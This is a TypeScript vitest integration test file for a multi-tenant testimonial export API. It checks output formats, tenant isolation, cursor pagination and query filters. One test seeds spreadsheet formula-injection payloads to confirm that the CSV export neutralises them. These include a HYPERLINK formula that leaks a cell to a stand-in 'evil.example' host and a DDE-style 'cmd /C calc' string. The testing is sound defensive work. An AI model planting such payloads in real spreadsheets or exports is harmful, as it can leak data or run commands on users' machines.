import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestDatabase, type TestDatabase } from '../support/postgres.ts';
import { startTestApp, type TestApp } from '../support/test-app.ts';
import { seedTestimonial } from '../support/testimonials.ts';

/** What a spreadsheet-safe cell holds: OWASP's single-quote prefix before a formula's first character. */
const neutralised = (value: string) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);

/** A tiny RFC 4180 reader, enough to read back what the export wrote. */
const parseCsv = (text: string): string[][] => {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index];
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"';
        index += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[index + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      index += 1;
    } else cell += char;
  }
  return rows;
};

interface JsonPage {
  testimonials: { id: string; quote: string; displayName: string | null; products: { title: string }[]; consent: { scopes: string[] }; incentivised: boolean; verifiedPurchase: boolean; cursor: string }[];
  nextCursor: string | null;
}

/** The export over HTTP on both stores: PostgreSQL (server-side cursor) and embedded PGlite (keyset pages). */
describe.each(['postgres', 'pglite'] as const)('the testimonial export on %s', (store) => {
  let database: TestDatabase | null = null;
  let dataDir: string | null = null;
  let app: TestApp;
  let acmeKey: string;
  let globexKey: string;
  const get = (path: string, key: string) => fetch(`${app.url}${path}`, { headers: { authorization: `Bearer ${key}` } });

  beforeAll(async () => {
    if (store === 'postgres') database = await createTestDatabase('testimonial_export');
    else dataDir = mkdtempSync(join(tmpdir(), 'afterglow-export-'));
    app = await startTestApp(database ? { DATABASE_URL: database.url } : { AFTERGLOW_DATA_DIR: dataDir ?? '' });
    acmeKey = (await app.createTenant({ id: 'acme', platform: 'shopify', webhookSecret: 'secret' })).apiKey;
    globexKey = (await app.createTenant({ id: 'globex', platform: 'shopify', webhookSecret: 'secret2' })).apiKey;
  });
  afterAll(async () => {
    await app?.stop();
    await database?.drop();
    if (dataDir) rmSync(dataDir, { recursive: true, force: true });
  });

  it('formula-injection payloads are neutralised in CSV and left as written in JSON', async () => {
    // Prepare: customer text in every cell that carries some
    const payloads = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1 best shop', '-2 problems, none left', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\tTabbed start', '\rCarriage return start'];
    for (const payload of payloads) await seedTestimonial(app.context, { quote: payload, firstName: payload, lastName: 'X', products: [{ productId: null, variantId: null, sku: null, title: payload }], displayName: 'first_name' });
    // Act
    const csv = await get('/api/testimonials?format=csv&limit=1000', acmeKey);
    const json = (await (await get('/api/testimonials?format=json&limit=1000', acmeKey)).json()) as JsonPage;
    // Assess
    const [header, ...rows] = parseCsv(await csv.text());
    const column = (name: string) => header?.indexOf(name) ?? -1;
    for (const payload of payloads) {
      const row = rows.find((cells) => cells[column('quote')] === `'${payload}`);
      expect(row, `quote ${JSON.stringify(payload)} neutralised`).toBeDefined();
      // Names are shown trimmed of surrounding blanks, then neutralised like any cell.
      expect(row?.[column('display_name')]).toBe(neutralised(payload.trim()));
      expect(row?.[column('products')]).toBe(`'${payload}`);
      const exported = json.testimonials.find((testimonial) => testimonial.quote === payload);
      expect(exported, `quote ${JSON.stringify(payload)} as written`).toBeDefined();
      expect(exported?.displayName).toBe(payload.trim());
      expect(exported?.products[0]?.title).toBe(payload);
    }
  });

  it('each format: its content type and shape; the streamed export is chunked and complete', async () => {
    // Prepare
    await seedTestimonial(app.context, { quote: 'Comma, "quotes" and\nnew lines', incentivised: true, scopes: ['ads'] });
    // Act
    const [csv, json, ndjson, streamed] = await Promise.all([
      get('/api/testimonials?format=csv&limit=1000', acmeKey),
      get('/api/testimonials?format=json&limit=1000', acmeKey),
      get('/api/testimonials?format=ndjson&limit=1000', acmeKey),
      get('/export/testimonials?format=csv', acmeKey),
    ]);
    // Assess
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(csv.headers.get('content-disposition')).toContain('testimonials.csv');
    expect(json.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(ndjson.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    expect(streamed.headers.get('transfer-encoding')).toBe('chunked');
    const csvRows = parseCsv(await csv.text());
    expect(csvRows[0]).toEqual(expect.arrayContaining(['id', 'quote', 'display_name', 'scopes', 'incentivised', 'verified_purchase', 'cursor']));
    const page = (await json.json()) as JsonPage;
    expect(page.nextCursor).toBeNull();
    const lines = (await ndjson.text()).trim().split('\n').map((line) => JSON.parse(line) as JsonPage['testimonials'][number]);
    expect(lines.map((line) => line.id)).toEqual(page.testimonials.map((testimonial) => testimonial.id));
    const special = page.testimonials.find((testimonial) => testimonial.quote === 'Comma, "quotes" and\nnew lines');
    expect(special).toMatchObject({ incentivised: true, verifiedPurchase: true, consent: { scopes: ['ads'] } });
    const streamedRows = parseCsv(await streamed.text());
    expect(streamedRows).toEqual(csvRows);
    expect(csvRows.find((row) => row.includes('Comma, "quotes" and\nnew lines'))).toBeDefined();
  });

  it("tenant A's key reading tenant B's export gets nothing", async () => {
    // Prepare: acme has approved testimonials; globex has none
    await seedTestimonial(app.context);
    // Act
    const page = (await (await get('/api/testimonials?format=json', globexKey)).json()) as JsonPage;
    const streamed = await (await get('/export/testimonials?format=ndjson', globexKey)).text();
    const csv = parseCsv(await (await get('/export/testimonials?format=csv', globexKey)).text());
    const acme = (await (await get('/api/testimonials?format=json', acmeKey)).json()) as JsonPage;
    const denied = await fetch(`${app.url}/export/testimonials?format=csv`);
    // Assess
    expect(acme.testimonials.length).toBeGreaterThan(0);
    expect(page).toEqual({ testimonials: [], nextCursor: null });
    expect(streamed).toBe('');
    expect(csv).toHaveLength(1); // the header alone
    expect(denied.status).toBe(401);
  });

  it('cursor pages are stable while rows are added, approved, withdrawn meanwhile', async () => {
    // Prepare: a tenant of its own, 12 approved testimonials
    const { apiKey } = await app.createTenant({ id: 'initech', platform: 'shopify', webhookSecret: 's3' });
    const first = [];
    for (let index = 0; index < 12; index += 1) first.push(await seedTestimonial(app.context, { tenantId: 'initech', quote: `early ${index}` }));
    const pageOf = async (cursor: string | null) => {
      const response = await get(`/api/testimonials?format=json&limit=5${cursor ? `&cursor=${cursor}` : ''}`, apiKey);
      return { page: (await response.json()) as JsonPage, header: response.headers.get('x-next-cursor'), link: response.headers.get('link') };
    };
    // Act: page 1; then 3 more are approved and one of page 1 is withdrawn; then the rest
    const one = await pageOf(null);
    const later = [];
    for (let index = 0; index < 3; index += 1) later.push(await seedTestimonial(app.context, { tenantId: 'initech', quote: `late ${index}` }));
    await app.context.testimonials.record(
      { ...first[0]!, submittedAt: first[0]!.submittedAt },
      { consent: { ...first[0]!.consent, granted: false, scopes: [], recordedAt: new Date(Date.now() + 1000).toISOString() }, channel: 'consent_page' },
    );
    const seen = [...one.page.testimonials];
    let cursor = one.page.nextCursor;
    const headers = [one.header];
    while (cursor) {
      const next = await pageOf(cursor);
      seen.push(...next.page.testimonials);
      headers.push(next.header);
      cursor = next.page.nextCursor;
    }
    // Assess: every row once, in approval order, the late ones at the end; the header carries the cursor
    expect(one.page.testimonials.map((row) => row.quote)).toEqual(['early 0', 'early 1', 'early 2', 'early 3', 'early 4']);
    expect(seen.map((row) => row.quote)).toEqual([...first.map((_, index) => `early ${index}`), ...later.map((_, index) => `late ${index}`)]);
    expect(new Set(seen.map((row) => row.id)).size).toBe(seen.length);
    expect(headers.slice(0, -1).every(Boolean)).toBe(true);
    expect(headers.at(-1)).toBeNull();
    expect(one.link).toContain('rel="next"');
    // the streamed export resumes after any row's cursor, and a withdrawn one is gone from it
    const resumed = (await (await get(`/export/testimonials?format=ndjson&cursor=${seen[11]?.cursor}`, apiKey)).text()).trim().split('\n');
    expect(resumed.map((line) => (JSON.parse(line) as { quote: string }).quote)).toEqual(['late 0', 'late 1', 'late 2']);
    const whole = (await (await get('/export/testimonials?format=ndjson', apiKey)).text()).trim().split('\n');
    expect(whole).toHaveLength(14);
  });

  it('filters: since/until (when written), minScore, product, scope; bad parameters are a 400 saying why', async () => {
    // Prepare
    const { apiKey } = await app.createTenant({ id: 'umbrella', platform: 'shopify', webhookSecret: 's4' });
    await seedTestimonial(app.context, { tenantId: 'umbrella', quote: 'old nine', score: 9, submittedAt: new Date('2026-01-10T00:00:00Z') });
    await seedTestimonial(app.context, { tenantId: 'umbrella', quote: 'new ten mug', score: 10, submittedAt: new Date('2026-06-10T00:00:00Z'), products: [{ productId: '55', variantId: null, sku: 'MUG-1', title: 'Blue Mug' }], scopes: ['ads'] });
    const quotes = async (query: string) =>
      ((await (await get(`/api/testimonials?format=json&${query}`, apiKey)).json()) as JsonPage).testimonials.map((row) => row.quote);
    // Act / Assess
    expect(await quotes('since=2026-03-01')).toEqual(['new ten mug']);
    expect(await quotes('until=2026-03-01')).toEqual(['old nine']);
    expect(await quotes('minScore=10')).toEqual(['new ten mug']);
    expect(await quotes('product=blue%20mug')).toEqual(['new ten mug']);
    expect(await quotes('product=MUG-1')).toEqual(['new ten mug']);
    expect(await quotes('scope=ads')).toEqual(['new ten mug']);
    for (const bad of ['format=xml', 'since=yesterday', 'minScore=high', 'cursor=nope', 'limit=0', 'scope=tv']) {
      const response = await get(`/api/testimonials?${bad}`, apiKey);
      expect(response.status, bad).toBe(400);
      expect(((await response.json()) as { error: string }).error.length).toBeGreaterThan(5);
    }
  });
});
